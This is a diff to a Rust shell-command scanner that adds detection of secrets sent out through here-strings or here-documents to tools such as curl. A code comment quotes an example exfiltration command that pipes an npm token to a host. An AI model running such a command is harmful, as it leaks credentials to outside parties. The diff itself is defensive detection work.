@@ -1793,6 +1793,26 @@ pub(super) fn pipelines(scan: &mut Scan<'_>) {
             let name = name.to_string();
             secret_leaves(scan, &name, &host);
         }
+        // `curl -d @- HOST <<< "$NPM_TOKEN"`: a here-string or a here-document of the way out
+        // itself holds the secret it sends (a CI step's `${{ secrets.X }}` reads so).
+        if is_way_out(cmd)
+            && let Some(name) = cmd
+                .redirects
+                .iter()
+                .filter(|r| {
+                    matches!(r.op, RedirectOp::HereString | RedirectOp::HereDoc)
+                        && r.fd.is_none_or(|fd| fd == 0)
+                })
+                .find_map(|r| {
+                    r.target
+                        .split_whitespace()
+                        .find_map(super::words::expanded_secret)
+                })
+            && let Some(host) = cmd.args().iter().find_map(|a| url_host(a))
+        {
+            let name = name.to_string();
+            secret_leaves(scan, &name, &host);
+        }
         if dumps_env || reads_secret {
             let leaves = later.iter().any(|c| is_way_out(c) || is_service_cli(c));
             // `gh issue create --body "$(cat .env)"`: a hosted service's CLI sends what its
